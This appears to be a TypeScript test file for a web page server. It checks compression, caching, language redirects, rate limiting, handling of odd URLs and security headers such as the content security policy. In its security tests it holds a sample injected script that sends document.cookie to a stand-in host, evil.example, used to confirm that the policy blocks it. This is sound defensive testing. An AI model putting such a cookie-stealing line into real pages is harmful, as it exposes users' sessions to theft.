import { createHash } from 'node:crypto';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { loadBrands } from '#platform/brand/brands.ts';
import { newToken } from '#platform/session/token.ts';
import type { RenderPage } from './pages.ts';
import { countingRender, html, servePages } from './testing.ts';

describe('over HTTP', () => {
  it.each([
    ['br', 'gzip, br', 'br', brotliDecompressSync],
    ['gzip', 'gzip', 'gzip', gunzipSync],
    ['identity', '', undefined, (bytes: Buffer) => bytes],
    ['what is refused is not sent', 'br;q=0, gzip', 'gzip', gunzipSync],
  ])('%s', async (_, accepted, encoding, decode) => {
    const { request } = await servePages(countingRender().render);
    for (let i = 0; i < 2; i++) {
      const { headers, body } = await request('/mall', { 'accept-encoding': accepted });
      expect(headers['content-encoding']).toBe(encoding);
      expect(headers['content-length']).toBe(String(body.length));
      expect(headers.vary).toMatch(/accept-encoding/);
      expect(decode(body).toString()).toContain('touchline zh_CN guest #1');
    }
  });

  it('a known ETag is answered 304', async () => {
    const { request } = await servePages(countingRender().render);
    const { headers } = await request('/mall');
    const etag = headers.etag!;
    expect(headers['cache-control']).toBe('private, no-cache');
    const again = await request('/mall', { 'if-none-match': etag });
    expect([again.status, again.body.length, again.headers.etag]).toEqual([304, 0, etag]);
    expect((await request('/mall', { 'if-none-match': `W/${etag}` })).status).toBe(304);
    expect((await request('/mall', { 'if-none-match': '"other"' })).status).toBe(200);
  });

  it("a signed-in user's page is not stored by browsers", async () => {
    const { request } = await servePages(countingRender().render);
    const { headers } = await request('/mall', { cookie: `token=${newToken()}` });
    expect(headers['cache-control']).toBe('private, no-store');
    expect(headers['x-shared-page']).toBeUndefined();
  });

  it('a HEAD has only headers', async () => {
    const { request } = await servePages(countingRender().render);
    for (let i = 0; i < 2; i++) {
      const { status, headers, body } = await request('/mall', {}, 'HEAD');
      expect([status, body.length]).toEqual([200, 0]);
      expect(Number(headers['content-length'])).toBeGreaterThan(0);
    }
  });

  it('each response has its own id', async () => {
    const { request } = await servePages(countingRender().render);
    const ids = [await request('/mall'), await request('/mall'), await request('/mall')].map(
      ({ headers }) => headers['x-request-id'],
    );
    expect(new Set(ids).size).toBe(3);
  });

  it('a page that fails to render is a server error, logged with its id', async () => {
    const { request, lines } = await servePages(async () => Promise.reject(new Error('hunter2')));
    const { status, headers, body } = await request('/ar/mall?tab="box"');
    expect([status, headers['content-type']]).toEqual([500, 'text/html; charset=utf-8']);
    expect(headers['content-security-policy']).toContain("script-src 'self';");
    const html = body.toString();
    expect(html).toContain('<html lang="ar" dir="rtl">');
    expect(html).toContain('<h1 style="margin:0;font-size:1.5rem">ar states.server.title</h1>');
    expect(html).toContain('<a href="/ar">ar states.home</a>');
    expect(html).toContain('<a href="/ar/mall?tab=&quot;box&quot;">ar states.retry</a>');
    const errors = lines.filter(({ level }) => level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ requestId: expect.any(String), err: { message: 'hunter2' } });
  });

  it.each([true, false])('and is marked as a demo (%s)', async (demo) => {
    const { request } = await servePages(async () => Promise.reject(new Error('no')), { demo });
    const html = (await request('/en/mall')).body.toString();
    expect(html.includes('<b>en shell.demo.badge</b> · en shell.demo.text')).toBe(demo);
  });

  it('a defect reported by a page is logged with its id and path', async () => {
    const { request, lines } = await servePages(async (_, page) => {
      page.report(new Error('a card fell over'));
      return html('the rest of it');
    });
    const { status, headers } = await request('/en/mall?tab=box');
    expect(status).toBe(200);
    expect(lines.filter(({ level }) => level === 'error')).toMatchObject([
      { requestId: headers['x-request-id'], path: '/en/mall', err: { message: 'a card fell over' } },
    ]);
  });

  it('a client beyond the limit gets 429', async () => {
    const { request } = await servePages(countingRender().render, {
      takeLimit: async () => ({ retryAfterSeconds: 7 }),
    });
    const { status, headers, body } = await request('/en/mall');
    expect([status, headers['retry-after']]).toEqual([429, '7']);
    expect(body.toString()).toContain('<title>en errors.platform.too_many</title>');
  });
});

describe('the language', () => {
  const chrome = { 'user-agent': 'Mozilla/5.0 Chrome/140.0 Safari/537.36' };
  it.each([
    ['/mall?tab=a', 'en', 302, '/en/mall?tab=a'],
    ['/', 'ar', 302, '/ar'],
    ['/en/?tab=a', '', 301, '/en?tab=a'],
    ['/zh_CN/mall?tab=a', '', 301, '/mall?tab=a'],
  ])('%s with the cookie %s answers %i to %s', async (path, lang, status, location) => {
    const { renders, render } = countingRender();
    const { request } = await servePages(render);
    const { headers, ...answer } = await request(path, {
      ...chrome,
      ...(lang ? { cookie: `lang=${lang}` } : {}),
    });
    expect([answer.status, headers.location, headers['cache-control']]).toEqual([
      status,
      location,
      'no-store',
    ]);
    expect(renders).toEqual([]);
  });

  it('redirects and cached pages are never mixed up', async () => {
    const { request } = await servePages(countingRender().render);
    expect((await request('/mall')).status).toBe(200);
    expect((await request('/mall', { ...chrome, cookie: 'lang=en' })).status).toBe(302);
    expect((await request('/mall')).status).toBe(200);
  });

  it('a page with a language prefix is cached, for any language cookie', async () => {
    const { renders, render } = countingRender();
    const { request } = await servePages(render);
    for (const path of ['/en/mall', '/en', '/en?tab=a']) {
      for (const cookie of ['lang=en', 'lang=sv', 'x=1']) await request(path, { ...chrome, cookie });
    }
    expect(renders.map(({ page }) => page.lang)).toEqual(['en', 'en', 'en']);
  });
});

describe('an unusual URL', () => {
  it.each(['//evil.example/mall', '//', '/%', '/\\evil.example'])(
    "%s is answered, on the site's own host",
    async (path) => {
      const { renders, render } = countingRender();
      const { request } = await servePages(render);
      const { status } = await request(path);
      expect(status).toBeLessThan(500);
      for (const { url } of renders) expect(new URL(url).host).toBe('localhost');
    },
  );

  it("with a host in it stays on the site's own", async () => {
    const { renders, render } = countingRender();
    const { request } = await servePages(render);
    await request('http://evil.example/mall');
    for (const { url } of renders) expect(new URL(url).host).toBe('localhost');
  });
});

describe('security', () => {
  const SCRIPT = 'document.documentElement.dataset.theme="dark"';
  const STYLE = ':root{--brand:#b4430f}';
  const INJECTED = 'fetch("//evil.example/" + document.cookie)';
  const page: RenderPage = async (_, { cacheable, mark }) => {
    cacheable({ query: [] });
    return html(
      `<script nonce="${mark}">${SCRIPT}</script><style nonce="${mark}">${STYLE}</style>` +
        `<script>${INJECTED}</script><style>*{display:none}</style>`,
    );
  };
  const sha = (source: string) => `'sha256-${createHash('sha256').update(source).digest('base64')}'`;

  it('headers are the same on rendered and cached pages', async () => {
    const { request } = await servePages(page);
    const seen = [];
    for (let i = 0; i < 2; i++) {
      const { headers, body } = await request('/mall');
      const policy = headers['content-security-policy'] as string;
      expect(policy).toContain(`script-src 'self' ${sha(SCRIPT)};`);
      expect(policy).toContain(`style-src-elem 'self' ${sha(STYLE)};`);
      expect(policy).not.toMatch(/script-src[^;]*unsafe/);
      // Contained in the page, and not executed.
      expect(body.toString()).toContain(`<script>${SCRIPT}</script>`);
      expect(body.toString()).toContain(`<script>${INJECTED}</script>`);
      expect(policy).not.toContain(sha(INJECTED));
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'referrer-policy': expect.any(String),
        'permissions-policy': expect.any(String),
      });
      const { 'x-request-id': _, date: __, ...stable } = headers;
      seen.push(stable);
    }
    expect(seen[1]).toEqual(seen[0]);
  });

  it('allows a brand’s external pictures', async () => {
    const [brand] = loadBrands('http://localhost').all;
    const pictured = { ...brand!, backgroundImages: { home: 'https://img.example/home.webp', login: '' } };
    const brands = { all: [pictured], byHost: () => pictured, byId: () => pictured };
    const { headers } = await (await servePages(page, { brands })).request('/mall');
    expect(headers['content-security-policy']).toMatch(/img-src 'self' data: blob: https:\/\/img\.example;/);
  });

  it("allows pictures and videos from the uploads' host", async () => {
    const { request } = await servePages(async () => html('<p>'), { uploadHosts: ['https://cdn.example'] });
    const policy = (await request('/mall')).headers['content-security-policy'];
    expect(policy).toMatch(/img-src [^;]*https:\/\/cdn\.example/);
    expect(policy).toMatch(/media-src [^;]*https:\/\/cdn\.example/);
    expect(policy).toMatch(/connect-src [^;]*https:\/\/cdn\.example/);
  });

  it('every response has the basic headers: redirects and errors too', async () => {
    const { request } = await servePages(async () => Promise.reject(new Error('no')));
    const limited = await servePages(page, { takeLimit: async () => ({ retryAfterSeconds: 1 }) });
    for (const { status, headers } of [
      await request('/mall'),
      await request('/zh_CN/mall'),
      await limited.request('/mall'),
    ]) {
      expect([status, headers['x-content-type-options']]).toEqual([status, 'nosniff']);
    }
  });
});

it.each(['POST', 'PUT', 'DELETE'])('a page rejects %s', async (method) => {
  const { renders, render } = countingRender();
  const { request } = await servePages(render);
  expect((await request('/mall', {}, method)).status).toBe(405);
  expect(renders).toEqual([]);
});
